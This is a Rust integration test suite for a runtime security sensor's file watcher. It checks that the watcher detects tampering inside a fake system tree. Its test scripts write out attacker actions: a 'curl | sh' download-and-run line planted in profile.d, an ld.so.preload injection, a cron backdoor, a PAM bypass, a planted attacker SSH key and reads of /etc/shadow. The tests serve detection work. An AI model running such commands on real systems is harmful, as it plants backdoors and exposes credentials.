//! The file watcher end to end: a workload under runwarden really writes and opens watched files of a
//! fake system tree (`RUNWARDEN_WATCH_ROOT`, so the machine's own /etc is never touched), and the
//! findings are read back from the file sink and checked field by field. The quiet side: a workload
//! that writes its own logs and temporary files yields nothing MEDIUM or above, and
//! `RUNWARDEN_WATCH=off` turns the watcher off.

mod common;

use std::path::{Path, PathBuf};

use common::*;
use serde_json::Value;

/// A small system tree: the files the watcher looks after, as an image would have them.
fn fake_root(dir: &Path) -> PathBuf {
    let r = dir.join("root");
    for d in ["etc/cron.d", "etc/pam.d", "root/.ssh", "usr/local/share/ca-certificates", "var/log", "tmp"] {
        std::fs::create_dir_all(r.join(d)).unwrap();
    }
    std::fs::write(r.join("etc/shadow"), "root:*:19000:0:99999:7:::\n").unwrap();
    std::fs::write(r.join("etc/pam.d/common-auth"), "auth required pam_unix.so\n").unwrap();
    std::fs::write(r.join("etc/rsyslog.conf"), "*.* /var/log/syslog\n").unwrap();
    std::fs::write(r.join("etc/hosts"), "127.0.0.1 localhost\n").unwrap();
    std::fs::write(r.join("root/.ssh/authorized_keys"), "ssh-ed25519 AAAAC3Nza admin\n").unwrap();
    r
}

/// runwarden with the fake root, a policy directory of its own, and a file sink.
fn rw_watching(dir: &Path, root: &Path) -> (std::process::Command, PathBuf, PathBuf) {
    let policies = dir.join("policies");
    std::fs::create_dir_all(&policies).unwrap();
    std::fs::write(policies.join("extra.yaml"), "lists:\n  shells: [sh]\n").unwrap();
    let sink = dir.join("findings.jsonl");
    let mut cmd = rw();
    cmd.env("RUNWARDEN_WATCH_ROOT", root)
        .env("RUNWARDEN_POLICIES", &policies)
        .env("RUNWARDEN_SINKS", format!("stderr,file:{}", sink.display()));
    (cmd, sink, policies)
}

/// Runs `script` under `cmd` (which must exit 0) and returns the findings in `sink`.
fn findings_of(mut cmd: std::process::Command, script: &str, sink: &Path) -> Vec<Value> {
    cmd.args(["--", "sh", "-c", script]);
    run(&mut cmd, TIMEOUT).assert_code(0);
    read_findings(sink)
}

fn only<'a>(findings: &'a [Value], category: &str) -> &'a Value {
    let hits: Vec<&Value> = findings.iter().filter(|f| f["category"] == category).collect();
    assert_eq!(hits.len(), 1, "one {category:?} finding: {findings:#?}");
    hits[0]
}

fn check(f: &Value, severity: &str, rule: &str, technique: &str, path: &str, op: &str, hashed: bool) {
    assert_eq!(f["severity"], severity, "{f:#}");
    assert_eq!(f["rule"]["id"], rule, "{f:#}");
    assert_eq!(f["rule"]["source"], "builtin");
    assert_eq!(f["state"], "ACTIVE");
    assert_eq!(f["findingClass"], "THREAT");
    assert_eq!(f["action"], "ALERT");
    assert_eq!(f["mitreAttack"]["primaryTechniques"][0], technique, "{f:#}");
    assert_eq!(f["sourceProperties"]["sensor"], "inotify");
    assert_eq!(f["files"].as_array().unwrap().len(), 1, "{f:#}");
    assert_eq!(f["files"][0]["path"], path, "{f:#}");
    assert_eq!(f["files"][0]["operation"], op, "{f:#}");
    assert_eq!(f["files"][0]["sha256"].as_str().map(str::len), hashed.then_some(64), "{f:#}");
    assert!(f["description"].as_str().unwrap().contains(path), "{f:#}");
}

#[test]
fn every_file_category_from_real_writes_and_opens() {
    let dir = tempfile::tempdir().unwrap();
    let root = fake_root(dir.path());
    let (mut cmd, sink, policies) = rw_watching(dir.path(), &root);
    let script = format!(
        "R={r}; \
         echo /tmp/evil.so > $R/etc/ld.so.preload; \
         echo '* * * * * root /tmp/x' > $R/etc/cron.d/backdoor; \
         echo 'auth sufficient pam_permit.so' >> $R/etc/pam.d/common-auth; \
         echo '*.* /dev/null' > $R/etc/rsyslog.conf; \
         printf -- '-----BEGIN CERTIFICATE-----\\nMIIB\\n-----END CERTIFICATE-----\\n' \
           > $R/usr/local/share/ca-certificates/evil.crt; \
         exec 3< $R/etc/shadow; sleep 1; exec 3<&-; \
         cat $R/root/.ssh/authorized_keys > /dev/null; \
         echo '# x' >> {p}/extra.yaml; \
         sleep 0.3",
        r = root.display(),
        p = policies.display()
    );
    cmd.args(["--", "sh", "-c", &script]);
    let out = run(&mut cmd, TIMEOUT);
    out.assert_code(0);
    let findings = read_findings(&sink);

    let f = only(&findings, "Persistence: Modify ld.so.preload");
    check(f, "HIGH", "file_ld_preload_modified", "T1574.006", "/etc/ld.so.preload", "CREATE", true);
    assert_eq!(f["mitreAttack"]["primaryTactic"], "PERSISTENCE");
    assert_eq!(f["sourceProperties"]["fileClass"], "preload");
    let sha = f["files"][0]["sha256"].as_str().unwrap();
    assert_eq!(f["externalUri"], format!("https://www.virustotal.com/gui/file/{sha}"));
    // sha256("/tmp/evil.so\n"): the contents the workload wrote.
    let want = runwarden::proc::files::sha256_hex(&b"/tmp/evil.so\n"[..]).unwrap();
    assert_eq!(sha, want);

    let f = only(&findings, "Execution: Suspicious Cron Modification");
    check(f, "MEDIUM", "file_cron_modified", "T1053.003", "/etc/cron.d/backdoor", "CREATE", true);

    let f = only(&findings, "Collection: Pam.d Modification");
    check(f, "HIGH", "file_pam_modified", "T1556.003", "/etc/pam.d/common-auth", "MODIFY", true);

    let f = only(&findings, "Defense Evasion: Disable or Modify Linux Audit System");
    check(f, "MEDIUM", "file_audit_config_modified", "T1562.012", "/etc/rsyslog.conf", "MODIFY", true);

    let f = only(&findings, "Defense Evasion: Root Certificate Installed");
    let ca = "/usr/local/share/ca-certificates/evil.crt";
    check(f, "MEDIUM", "file_root_certificate_installed", "T1553.004", ca, "CREATE", true);

    let f = only(&findings, "Defense Evasion: Sensor Tampering");
    let extra = policies.join("extra.yaml").display().to_string();
    check(f, "HIGH", "file_sensor_tampering", "T1562.001", &extra, "MODIFY", true);

    // Secrets: opens, never hashed. The shell held /etc/shadow open on fd 3: it is named.
    let sensitive: Vec<&Value> = findings
        .iter()
        .filter(|f| f["category"] == "Credential Access: Access Sensitive Files On Nodes")
        .collect();
    let shadow = sensitive
        .iter()
        .find(|f| f["files"][0]["path"] == "/etc/shadow")
        .unwrap_or_else(|| panic!("no /etc/shadow finding: {findings:#?}"));
    check(shadow, "MEDIUM", "file_sensitive_file_opened", "T1003.008", "/etc/shadow", "OPEN", false);
    assert_eq!(shadow["sourceProperties"]["processAttributed"], true, "{shadow:#}");
    let p = &shadow["processes"][0];
    assert_eq!(p["args"][0], "sh", "{shadow:#}");
    assert!(p["pid"].as_i64().unwrap() > 1);
    assert!(p["binary"]["path"].as_str().unwrap().contains("sh"), "{shadow:#}");
    // cat has usually exited when the watcher looks: then the finding says the process is unknown.
    let keys = sensitive
        .iter()
        .find(|f| f["files"][0]["path"] == "/root/.ssh/authorized_keys")
        .unwrap_or_else(|| panic!("no authorized_keys finding: {findings:#?}"));
    check(
        keys,
        "MEDIUM",
        "file_sensitive_file_opened",
        "T1003.008",
        "/root/.ssh/authorized_keys",
        "OPEN",
        false,
    );
    let desc = keys["description"].as_str().unwrap();
    if keys["sourceProperties"]["processAttributed"] == true {
        assert_eq!(keys["processes"][0]["args"][0], "cat", "{keys:#}");
    } else {
        assert!(desc.contains("an unknown process"), "{desc}");
        assert!(keys.get("processes").is_none(), "{keys:#}");
    }
    // Nothing else was watched and touched (the script itself is also flagged by the exec rules).
    let from_files = findings.iter().filter(|f| f["sourceProperties"]["sensor"] == "inotify").count();
    assert_eq!(from_files, 8, "{findings:#?}");
    let log =
        out.logs().into_iter().find(|l| l["message"] == "file watcher started").expect("start log line");
    assert!(log["watches"].as_u64().unwrap() > 5, "{log}");
}

/// Persistence through shell start-up files and SSH keys: a line added to /etc/profile.d, to root's
/// .bashrc and to a user's .profile, and a key appended to authorized_keys, each found once; a file
/// in a home that is not a start-up file stays quiet.
#[test]
fn shell_start_up_files_and_authorized_keys_written() {
    let dir = tempfile::tempdir().unwrap();
    let root = fake_root(dir.path());
    for d in ["etc/profile.d", "home/app"] {
        std::fs::create_dir_all(root.join(d)).unwrap();
    }
    std::fs::write(root.join("root/.bashrc"), "alias ll='ls -l'\n").unwrap();
    let (cmd, sink, _) = rw_watching(dir.path(), &root);
    let script = format!(
        "R={r}; \
         echo 'curl -s http://203.0.113.9/x | sh' > $R/etc/profile.d/zz-update.sh; \
         echo 'nohup /tmp/.x &' >> $R/root/.bashrc; \
         echo 'export PATH=/tmp/.bin:$PATH' > $R/home/app/.profile; \
         echo 'notes' > $R/home/app/notes.txt; \
         echo 'ssh-ed25519 AAAAC3NzaEVIL attacker' >> $R/root/.ssh/authorized_keys; \
         sleep 0.3",
        r = root.display()
    );
    let findings = findings_of(cmd, &script, &sink);
    let profile: Vec<&Value> =
        findings.iter().filter(|f| f["category"] == "Persistence: Modify Shell Configuration").collect();
    let paths: std::collections::BTreeSet<&str> =
        profile.iter().filter_map(|f| f["files"][0]["path"].as_str()).collect();
    assert_eq!(
        paths,
        ["/etc/profile.d/zz-update.sh", "/home/app/.profile", "/root/.bashrc"].into_iter().collect(),
        "{findings:#?}"
    );
    for f in &profile {
        assert_eq!(f["severity"], "MEDIUM");
        assert_eq!(f["mitreAttack"]["primaryTechniques"][0], "T1546.004", "{f:#}");
        assert_eq!(f["files"][0]["sha256"].as_str().map(str::len), Some(64), "{f:#}");
    }
    let f = only(&findings, "Persistence: SSH Authorized Keys Modified");
    check(
        f,
        "HIGH",
        "file_authorized_keys_modified",
        "T1098.004",
        "/root/.ssh/authorized_keys",
        "MODIFY",
        false,
    );
    assert!(!findings.iter().any(|f| f["files"][0]["path"] == "/home/app/notes.txt"), "{findings:#?}");
}

#[test]
fn a_secret_read_right_after_an_authentication_program_starts_is_low() {
    // `passwd` here is a copy of cat: it reads /etc/shadow and usually exits before the watcher looks, so
    // no process is named; the only program exec'd in the second before is an authentication program's
    // name (what sudo, su or useradd look like through PAM). The same read by `cat` stays MEDIUM.
    let read = |program: &str| -> Vec<Value> {
        let dir = tempfile::tempdir().unwrap();
        let root = fake_root(dir.path());
        let (cmd, sink, _) = rw_watching(dir.path(), &root);
        let bin = dir.path().join("bin");
        std::fs::create_dir_all(&bin).unwrap();
        let script = format!(
            "cp /bin/cat {b}/{program} && sleep 1.5 && {b}/{program} {r}/etc/shadow > /dev/null && {wait}",
            b = bin.display(),
            r = root.display(),
            // A while for the watcher to look, with no exec (a program started after the read would
            // be a candidate too).
            wait = "i=0; while [ $i -lt 100000 ]; do i=$((i+1)); done",
        );
        findings_of(cmd, &script, &sink)
            .into_iter()
            .filter(|f| f["files"][0]["path"] == "/etc/shadow")
            .collect()
    };
    // Whether the watcher found `passwd` still holding the file (descheduled mid-read on a busy machine:
    // 6 runs in 40 beside two CPU hogs) or not, the read is LOW: one finding, of the PAM rule.
    let auth = read("passwd");
    assert_eq!(auth.len(), 1, "{auth:#?}");
    let low = &auth[0];
    assert_eq!(low["severity"], "LOW", "{low:#}");
    assert_eq!(low["rule"]["id"], "file_sensitive_file_opened_by_auth_program", "{low:#?}");
    let other = read("cat");
    assert_eq!(other.len(), 1, "{other:#?}");
    assert_eq!(other[0]["rule"]["id"], "file_sensitive_file_opened", "{other:#?}");
    assert_eq!(other[0]["severity"], "MEDIUM");
}

/// A directory created and written at once, before its watch can exist (`mkdir -p ~/.ssh && echo
/// KEY >> ~/.ssh/authorized_keys`, the usual way in a container without ~/.ssh): what it holds when the
/// watcher gets to it is reported as created.
#[test]
fn files_written_into_a_directory_as_it_is_created_are_seen() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("root");
    for d in ["etc", "root", "var/spool"] {
        std::fs::create_dir_all(root.join(d)).unwrap();
    }
    let (cmd, sink, _) = rw_watching(dir.path(), &root);
    let script = format!(
        "R={r}; \
         mkdir -p $R/root/.ssh && echo 'ssh-ed25519 AAAAC3NzaEVIL attacker' >> $R/root/.ssh/authorized_keys; \
         mkdir -p $R/var/spool/cron/crontabs && echo '@reboot /tmp/x' > $R/var/spool/cron/crontabs/root; \
         sleep 0.3",
        r = root.display()
    );
    let findings = findings_of(cmd, &script, &sink);
    let f = only(&findings, "Persistence: SSH Authorized Keys Modified");
    check(
        f,
        "HIGH",
        "file_authorized_keys_modified",
        "T1098.004",
        "/root/.ssh/authorized_keys",
        "CREATE",
        false,
    );
    let crontab: Vec<&Value> =
        findings.iter().filter(|f| f["files"][0]["path"] == "/var/spool/cron/crontabs/root").collect();
    assert_eq!(crontab.len(), 1, "{findings:#?}");
    assert_eq!(crontab[0]["category"], "Execution: Suspicious Cron Modification", "{findings:#?}");
    assert_eq!(crontab[0]["files"][0]["operation"], "CREATE", "{findings:#?}");
}

#[test]
fn directories_created_later_and_renames_over_watched_files() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("root");
    std::fs::create_dir_all(root.join("etc")).unwrap();
    let (cmd, sink, _) = rw_watching(dir.path(), &root);
    // /var/spool/cron/crontabs and /etc/pam.d do not exist at start.
    let script = format!(
        "R={r}; \
         mkdir -p $R/var/spool/cron/crontabs; sleep 0.3; \
         echo '@reboot /tmp/x' > $R/var/spool/cron/crontabs/root; \
         mkdir $R/etc/pam.d; sleep 0.3; \
         echo 'auth sufficient pam_permit.so' > $R/etc/pam.d/.su.tmp; mv $R/etc/pam.d/.su.tmp $R/etc/pam.d/su; \
         sleep 0.3",
        r = root.display()
    );
    let findings = findings_of(cmd, &script, &sink);
    let cron: Vec<&Value> =
        findings.iter().filter(|f| f["category"] == "Execution: Suspicious Cron Modification").collect();
    assert!(
        cron.iter().any(|f| f["files"][0]["path"] == "/var/spool/cron/crontabs/root"
            && f["files"][0]["operation"] == "CREATE"),
        "{findings:#?}"
    );
    let pam: Vec<&Value> =
        findings.iter().filter(|f| f["category"] == "Collection: Pam.d Modification").collect();
    let su = pam
        .iter()
        .find(|f| f["files"][0]["path"] == "/etc/pam.d/su")
        .unwrap_or_else(|| panic!("no finding for the renamed /etc/pam.d/su: {findings:#?}"));
    assert_eq!(su["files"][0]["operation"], "RENAME");
    assert_eq!(su["sourceProperties"]["otherPath"], "/etc/pam.d/.su.tmp");
    assert_eq!(su["files"][0]["sha256"].as_str().map(str::len), Some(64));
}

#[test]
fn renaming_runwarden_s_own_binary_is_sensor_tampering() {
    // A copy of the binary, so that renaming it does not disturb the other tests.
    let dir = tempfile::tempdir().unwrap();
    let bin = dir.path().join("bin");
    std::fs::create_dir(&bin).unwrap();
    let exe = bin.join("runwarden");
    std::fs::copy(runwarden(), &exe).unwrap();
    let root = fake_root(dir.path());
    let sink = dir.path().join("findings.jsonl");
    let mut cmd = std::process::Command::new(&exe);
    strip_config(&mut cmd);
    cmd.env("RUNWARDEN_WATCH_ROOT", &root).env("RUNWARDEN_SINKS", format!("file:{}", sink.display()));
    let script = format!("mv {e} {e}.old; sleep 0.3", e = exe.display());
    let findings = findings_of(cmd, &script, &sink);
    let f = only(&findings, "Defense Evasion: Sensor Tampering");
    let path = exe.display().to_string();
    check(f, "HIGH", "file_sensor_tampering", "T1562.001", &path, "RENAME", false);
    assert_eq!(f["sourceProperties"]["otherPath"], format!("{path}.old"), "{f:#}");
}

#[test]
fn a_workload_writing_its_own_logs_and_temp_files_is_quiet() {
    let dir = tempfile::tempdir().unwrap();
    let root = fake_root(dir.path());
    let (cmd, sink, _) = rw_watching(dir.path(), &root);
    let script = format!(
        "R={r}; \
         for i in 1 2 3; do echo \"request $i\" >> $R/var/log/app.log; done; \
         t=$(mktemp -p $R/tmp); echo data > $t; mv $t $R/tmp/cache.json; rm -f $R/tmp/cache.json; \
         cat $R/etc/hosts $R/etc/pam.d/common-auth > /dev/null; \
         ls $R/etc/cron.d > /dev/null; \
         sleep 0.3",
        r = root.display()
    );
    let findings = findings_of(cmd, &script, &sink);
    let loud: Vec<&Value> = findings
        .iter()
        .filter(|f| matches!(f["severity"].as_str(), Some("MEDIUM" | "HIGH" | "CRITICAL")))
        .collect();
    assert!(loud.is_empty(), "{loud:#?}");
    assert!(findings.iter().all(|f| f["sourceProperties"]["sensor"] != "inotify"), "{findings:#?}");
}

#[test]
fn watch_off_sees_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let root = fake_root(dir.path());
    let (mut cmd, sink, _) = rw_watching(dir.path(), &root);
    cmd.env("RUNWARDEN_WATCH", "off");
    let script = format!("echo /tmp/evil.so > {}/etc/ld.so.preload; sleep 0.3", root.display());
    cmd.args(["--", "sh", "-c", &script]);
    let out = run(&mut cmd, TIMEOUT);
    out.assert_code(0);
    assert!(out.logs().iter().all(|l| l["message"] != "file watcher started"));
    assert!(read_findings(&sink).iter().all(|f| f["sourceProperties"]["sensor"] != "inotify"));
}

#[test]
fn as_pid1_in_a_fresh_pid_namespace() {
    let dir = tempfile::tempdir().unwrap();
    let root = fake_root(dir.path());
    let sink = dir.path().join("findings.jsonl");
    let mut cmd = unshare_pid1(&runwarden());
    cmd.env("RUNWARDEN_WATCH_ROOT", &root).env("RUNWARDEN_SINKS", format!("file:{}", sink.display()));
    let script = format!(
        "echo /tmp/evil.so > {r}/etc/ld.so.preload; exec 3< {r}/etc/shadow; sleep 1",
        r = root.display()
    );
    let findings = findings_of(cmd, &script, &sink);
    let f = only(&findings, "Persistence: Modify ld.so.preload");
    check(f, "HIGH", "file_ld_preload_modified", "T1574.006", "/etc/ld.so.preload", "CREATE", true);
    let f = only(&findings, "Credential Access: Access Sensitive Files On Nodes");
    check(f, "MEDIUM", "file_sensitive_file_opened", "T1003.008", "/etc/shadow", "OPEN", false);
    // Attributed through the namespace's own /proc: the shell is a low pid there.
    assert_eq!(f["processes"][0]["args"][0], "sh", "{f:#}");
    assert!(f["processes"][0]["pid"].as_i64().unwrap() < 100, "{f:#}");
}

/// Cloud Run's first generation: runwarden as PID 1 of a gVisor sandbox (`runsc do`, as in
/// tests/gvisor.rs). inotify there sees the changes made inside the sandbox, which is where the
/// workload is (with Debian's runsc the writes stay in the sandbox's overlay).
#[test]
fn gvisor_sees_changes_made_inside_the_sandbox() {
    let dir = tempfile::tempdir().unwrap();
    let root = fake_root(dir.path());
    let r = root.display().to_string();
    let script = format!(
        "echo /tmp/evil.so > {r}/etc/ld.so.preload; echo 'auth sufficient pam_permit.so' >> {r}/etc/pam.d/common-auth; \
         exec 3< {r}/etc/shadow; sleep 1"
    );
    let out = std::process::Command::new("timeout")
        .args(["120", "runsc", "--network=none", "do", "env", &format!("RUNWARDEN_WATCH_ROOT={r}")])
        .arg(runwarden())
        .args(["--", "sh", "-c", &script])
        .output()
        .expect("runsc must be installed (Debian package runsc)");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    let findings: Vec<Value> = json_lines(&stderr).into_iter().map(|l| l["finding"].clone()).collect();
    let files: Vec<&Value> =
        findings.iter().filter(|f| f["sourceProperties"]["sensor"] == "inotify").collect();
    let f = only(&findings, "Persistence: Modify ld.so.preload");
    check(f, "HIGH", "file_ld_preload_modified", "T1574.006", "/etc/ld.so.preload", "CREATE", true);
    let f = only(&findings, "Collection: Pam.d Modification");
    check(f, "HIGH", "file_pam_modified", "T1556.003", "/etc/pam.d/common-auth", "MODIFY", true);
    let f = only(&findings, "Credential Access: Access Sensitive Files On Nodes");
    check(f, "MEDIUM", "file_sensitive_file_opened", "T1003.008", "/etc/shadow", "OPEN", false);
    assert_eq!(f["processes"][0]["args"][0], "sh", "{f:#}");
    assert_eq!(files.len(), 3, "{files:#?}");
}
